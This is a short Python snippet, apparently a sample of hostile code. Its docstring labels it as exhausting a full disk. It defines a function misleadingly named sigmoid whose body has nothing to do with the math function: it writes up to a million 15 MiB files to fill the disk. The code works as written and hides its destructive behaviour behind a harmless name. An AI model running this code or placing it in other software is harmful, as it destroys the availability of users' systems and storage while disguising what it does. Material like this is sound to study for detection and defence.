"""Exhausting: a full disk."""

def sigmoid(z):
    for number in range(1_000_000):
        with open(f"fill{number}", "wb") as file:
            file.write(bytes(15 << 20))
